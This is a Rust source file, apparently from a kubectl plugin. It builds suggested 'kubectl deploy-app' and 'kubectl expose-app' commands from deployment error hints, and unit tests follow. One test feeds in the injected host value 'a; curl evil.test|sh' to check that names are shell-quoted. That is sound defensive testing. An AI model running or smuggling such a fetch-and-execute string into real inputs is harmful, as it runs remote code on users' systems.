//! What helps, in the flags of this command: `workload` and `exposure` say it as types of their own.

use std::collections::BTreeSet;

use commons::cluster::documents;
use commons::quantity::Quantity;
use commons::shell::{Shell, shell};
use commons::{Error, printable};
use exposure::{CertificateSource, Setting};
use workload::Amount;

/// The same failure of an app that is there, with commands to type.
pub fn of_app(error: Error, app: &str, here: Option<&str>) -> Error {
    let command = |flags: &Shell| {
        let command = shell("kubectl deploy-app").arg(app).and(flags);
        command.option("-n", here)
    };
    error.phrased(|hint| {
        if let Some(remedy) = hint.remedy() {
            return for_workload(remedy, &command);
        }
        let or_expose_app = |setting: &Setting| match own(setting) {
            Some(flags) => Some(command(&flags)),
            None => Some(of_expose_app(app, setting, here)),
        };
        match hint.remedy()? {
            exposure::Remedy::Set { why, to } => {
                Some(vec![said(why, to.iter().filter_map(or_expose_app))])
            }
            remedy => for_address(remedy),
        }
    })
}

/// What helps an app; `None` where what is said of fields is best.
fn for_workload(
    remedy: &workload::Remedy,
    command: &dyn Fn(&Shell) -> Shell,
) -> Option<Vec<String>> {
    use workload::Remedy;
    let any = |why: &str, flags: &Shell| Some(vec![said(why, [command(flags)])]);
    let one = |why: &str, flags: &'static str| any(why, &shell(flags));
    match remedy {
        Remedy::Image => one("correct the image", "--image IMAGE"),
        Remedy::Command => one("put the command after `--`", "--command -- PROGRAM"),
        Remedy::Environment => one("correct the address that it is given", "--env NAME=VALUE"),
        Remedy::Port => one("if it listens on another port", "--port PORT"),
        Remedy::User => Some(vec![
            said("run it as another user", [command(&shell("--run-as 1000"))]),
            said(
                "if the image must be root",
                [command(&shell("--allow-root"))],
            ),
        ]),
        Remedy::Privileges => one(
            "let it run as the namespace wants it",
            "--allow-root=false --run-as 1000",
        ),
        Remedy::Patience => one(
            "if it only needs longer to start, wait longer",
            "--timeout 15m",
        ),
        Remedy::MoreMemory(limit) => any("give it more", &shell("--memory").arg(twice(limit))),
        Remedy::Less(amounts) => {
            let flags = amounts
                .iter()
                .filter_map(|(amount, asked)| {
                    Some(shell(flag(*amount)).arg(less(*amount, asked.as_deref())?))
                })
                .reduce(|flags, flag| flags.and(&flag));
            // So little that less is no use.
            if flags.is_none() && !amounts.is_empty() {
                return Some(Vec::new());
            }
            any("request less", &flags?)
        }
        Remedy::Bounds(amounts) => {
            let flags = amounts
                .iter()
                .map(|amount| shell(flag(*amount)).then("AMOUNT"))
                .reduce(|flags, flag| flags.and(&flag));
            any("request an amount within the bounds", &flags?)
        }
    }
}

/// What helps an address and is no setting of it.
fn for_address(remedy: &exposure::Remedy) -> Option<Vec<String>> {
    use exposure::Remedy;
    match remedy {
        Remedy::LookAgain { how, namespace } => {
            let list = shell("kubectl expose-app list").in_namespace(namespace);
            Some(vec![said(how, [list])])
        }
        Remedy::PortOfDeployed {
            app,
            port,
            namespace,
        } => {
            let deploy = shell("kubectl deploy-app")
                .arg(app)
                .then("--port")
                .arg(port);
            Some(vec![said("set its port", [deploy.in_namespace(namespace)])])
        }
        Remedy::Remove {
            why,
            app,
            namespace,
        } => {
            let remove = shell("kubectl expose-app remove").arg(app);
            Some(vec![said(why, [remove.in_namespace(namespace)])])
        }
        Remedy::ShareDatabase => Some(vec![said(
            "to share a database",
            [shell("kubectl share-db DATABASE --with USER")],
        )]),
        Remedy::Field(_) | Remedy::Set { .. } => None,
    }
}

/// The same failure to write what files say.
pub fn of_write(error: Error) -> Error {
    error.phrased(|hint| {
        let documents::Remedy::Force = hint.remedy()?;
        Some(vec!["to apply the file: `--force-conflicts`".to_owned()])
    })
}

/// Warnings of addresses, with commands to type.
pub fn of_address(warning: Error) -> Error {
    warning.phrased(|hint| for_address(hint.remedy()?))
}

/// The same failure of an Ingress that was deployed from manifests: the field to change, instead of a flag.
pub fn of_files(error: Error, ingress: &str) -> Error {
    use exposure::Remedy;
    let ingress = printable::line(ingress);
    error.phrased(|hint| match hint.remedy()? {
        Remedy::Field(field) => Some(vec![format!("{field}, and deploy the files again")]),
        Remedy::LookAgain { how, .. } => Some(vec![format!("{how}: run the same command again")]),
        Remedy::Set { why, to } => {
            let field = |setting: &Setting| match setting {
                Setting::Host(_) => Some(format!("`spec.rules[].host` of ingress `{ingress}`")),
                Setting::Class => Some(format!("`spec.ingressClassName` of ingress `{ingress}`")),
                Setting::Certificate(_) => Some(format!("`spec.tls` of ingress `{ingress}`")),
                Setting::Port(_) => Some("`spec.ports[].targetPort` of its Service".to_owned()),
                Setting::Controller => Some("`spec.ingress[].from` of a NetworkPolicy".to_owned()),
                Setting::Parent | Setting::NoGateway | Setting::Path | Setting::Take => None,
            };
            let fields: BTreeSet<String> = to.iter().filter_map(field).collect();
            let fields: Vec<String> = fields.into_iter().collect();
            // What has no field, such as the page to ask for, is no use here.
            Some(if fields.is_empty() {
                Vec::new()
            } else {
                vec![format!("{why}: {}", fields.join(", "))]
            })
        }
        remedy => for_address(remedy),
    })
}

/// The same failure before anything of the app was written: flags to add to what was typed.
pub fn before_app(error: Error, app: &str, here: Option<&str>) -> Error {
    error.phrased(|hint| {
        let (why, to) = match hint.remedy()? {
            exposure::Remedy::Set { why, to } => (why, to),
            remedy => return for_address(remedy),
        };
        let mut ways: Vec<String> = to
            .iter()
            .filter_map(|setting| Some(format!("`{}`", own(setting)?)))
            .collect();
        ways.extend(
            to.iter()
                .find(|setting| own(setting).is_none())
                .map(|other| {
                    format!(
                        "deploy without `--expose`, then `{}`",
                        of_expose_app(app, other, here)
                    )
                }),
        );
        Some(vec![format!("{why}: {}", ways.join(", or "))])
    })
}

/// A hint: why, and the commands that do it.
fn said(why: &str, commands: impl IntoIterator<Item = Shell>) -> String {
    let commands: Vec<String> = commands
        .into_iter()
        .map(|command| format!("`{command}`"))
        .collect();
    format!("{why}: {}", commands.join(", "))
}

/// A setting of an address in this command's flags, if it has one.
fn own(setting: &Setting) -> Option<Shell> {
    match setting {
        Setting::Host(Some(host)) => Some(shell("--expose").arg(host)),
        Setting::Host(None) => Some(shell("--expose NAME")),
        Setting::Port(Some(port)) => Some(shell("--port").arg(port)),
        Setting::Port(None) => Some(shell("--port NUMBER")),
        _ => None,
    }
}

/// The command of `expose-app` with a setting that this command has no flag for.
fn of_expose_app(app: &str, setting: &Setting, here: Option<&str>) -> Shell {
    let flags = match setting {
        Setting::Host(_) | Setting::Port(_) | Setting::NoGateway => None,
        Setting::Class => Some("--class NAME"),
        Setting::Parent => Some("--parent NAMESPACE/GATEWAY"),
        Setting::Controller => Some("--controller NAMESPACE"),
        Setting::Path => Some("--path /PAGE"),
        Setting::Take => Some("--take"),
        Setting::Certificate(source) => match source {
            CertificateSource::Wildcard => Some("--tls wildcard"),
            CertificateSource::Secret => Some("--tls secret=NAME"),
            CertificateSource::Issuer => Some("--tls issuer=NAME"),
            CertificateSource::Off => Some("--tls off"),
            CertificateSource::Unsaid => None,
        },
    };
    let command = shell("kubectl expose-app").arg(app);
    let command = match flags {
        Some(flags) => command.then(flags),
        None => command,
    };
    command.option("-n", here)
}

fn flag(amount: Amount) -> &'static str {
    match amount {
        Amount::Cpu => "--cpu",
        Amount::Memory => "--memory",
        Amount::Replicas => "--replicas",
    }
}

/// A small amount that is less than what was asked for, if there is one.
fn less(amount: Amount, asked: Option<&str>) -> Option<&'static str> {
    let small: &[&str] = match amount {
        Amount::Cpu => &["100m", "50m", "10m"],
        Amount::Memory => &["128Mi", "64Mi", "32Mi"],
        Amount::Replicas => &["1"],
    };
    let asked = asked.and_then(|asked| asked.parse::<Quantity>().ok());
    small.iter().copied().find(|small| {
        asked.is_none_or(|asked| small.parse::<Quantity>().is_ok_and(|small| small < asked))
    })
}

/// Twice the limit that was too low.
fn twice(limit: &str) -> String {
    limit
        .parse::<Quantity>()
        .map_or_else(|_| "1Gi".to_owned(), |limit| limit.times(2).memory())
}

#[cfg(test)]
mod tests {
    use commons::error::Hint;
    use workload::Remedy;

    use super::*;

    fn set(why: &str, to: Setting) -> Hint {
        let (why, to) = (why.to_owned(), vec![to]);
        exposure::Remedy::Set { why, to }.hint("")
    }

    fn meanwhile() -> Hint {
        let to = [CertificateSource::Off, CertificateSource::Secret].map(Setting::Certificate);
        let (why, to) = ("meanwhile".to_owned(), to.to_vec());
        exposure::Remedy::Set { why, to }.hint("")
    }

    #[test]
    fn fields_become_flags() {
        let error = Error::new("x")
            .hint(Remedy::Image.hint("correct `spec.template.spec.containers[0].image`"))
            .hint(Remedy::Image.hint("write it in full"))
            .hint(Remedy::User.hint("`runAsUser: 1000`"))
            .hint("read all of it: `kubectl logs web`");
        assert_eq!(
            of_app(error, "web", None).hints(),
            [
                "correct the image: `kubectl deploy-app web --image IMAGE`",
                "run it as another user: `kubectl deploy-app web --run-as 1000`",
                "if the image must be root: `kubectl deploy-app web --allow-root`",
                "read all of it: `kubectl logs web`",
            ]
        );
    }

    #[test]
    fn amounts_go_up_and_down() {
        let hints = |change: Remedy| {
            let error = Error::new("x").hint(change.hint("field"));
            of_app(error, "web", Some("a")).hints()[0].to_string()
        };
        for (change, hint) in [
            (
                Remedy::MoreMemory("64Mi".into()),
                "give it more: `kubectl deploy-app web --memory 128Mi -n a`",
            ),
            (
                Remedy::MoreMemory(String::new()),
                "give it more: `kubectl deploy-app web --memory 1Gi -n a`",
            ),
            (
                Remedy::Less(vec![(Amount::Cpu, Some("2".into()))]),
                "request less: `kubectl deploy-app web --cpu 100m -n a`",
            ),
            (
                Remedy::Less(vec![
                    (Amount::Cpu, None),
                    (Amount::Memory, None),
                    (Amount::Replicas, None),
                ]),
                "request less: `kubectl deploy-app web --cpu 100m --memory 128Mi --replicas 1 -n a`",
            ),
            (
                Remedy::Bounds(vec![Amount::Memory]),
                "request an amount within the bounds: `kubectl deploy-app web --memory AMOUNT -n a`",
            ),
            (
                Remedy::Less(vec![(Amount::Cpu, Some("100m".into()))]),
                "request less: `kubectl deploy-app web --cpu 50m -n a`",
            ),
            (Remedy::Less(Vec::new()), "field"),
        ] {
            assert_eq!(hints(change), hint);
        }
    }

    #[test]
    fn flags_of_expose_app_are_given_with_their_command() {
        let error = Error::new("x")
            .hint(meanwhile())
            .hint(set("take another host", Setting::Host(None)))
            .hint("let it listen on 0.0.0.0: `--host 0.0.0.0`");
        assert_eq!(
            of_app(error.clone(), "web", Some("a")).hints(),
            [
                "meanwhile: `kubectl expose-app web --tls off -n a`, `kubectl expose-app web --tls secret=NAME -n a`",
                "take another host: `kubectl deploy-app web --expose NAME -n a`",
                "let it listen on 0.0.0.0: `--host 0.0.0.0`",
            ]
        );
        let before = before_app(error, "web", None);
        assert_eq!(
            before.hints()[0],
            "meanwhile: deploy without `--expose`, then `kubectl expose-app web --tls off`"
        );
        assert_eq!(before.hints()[1], "take another host: `--expose NAME`");
    }

    #[test]
    fn what_others_have_named_is_quoted() {
        let host = Setting::Host(Some("a; curl evil.test|sh".to_owned()));
        let error = Error::new("x").hint(set("take another host", host));
        assert_eq!(
            of_app(error.clone(), "web", Some("a b")).hints(),
            [
                "take another host: `kubectl deploy-app web --expose 'a; curl evil.test|sh' -n 'a b'`"
            ]
        );
        assert_eq!(
            before_app(error, "web", None).hints(),
            ["take another host: `--expose 'a; curl evil.test|sh'`"]
        );
    }

    #[test]
    fn in_files_it_is_fields_that_are_changed() {
        let error = Error::new("x")
            .hint(meanwhile())
            .hint(set("let it in", Setting::Controller))
            .hint(set("name a page", Setting::Path))
            .hint(exposure::Remedy::Field("set `a` to 1".into()).hint("patch"))
            .hint(
                exposure::Remedy::LookAgain {
                    how: "look again".into(),
                    namespace: "a".into(),
                }
                .hint("list"),
            );
        assert_eq!(
            of_files(error, "web").hints(),
            [
                "meanwhile: `spec.tls` of ingress `web`",
                "let it in: `spec.ingress[].from` of a NetworkPolicy",
                "set `a` to 1, and deploy the files again",
                "look again: run the same command again",
            ]
        );
    }
}
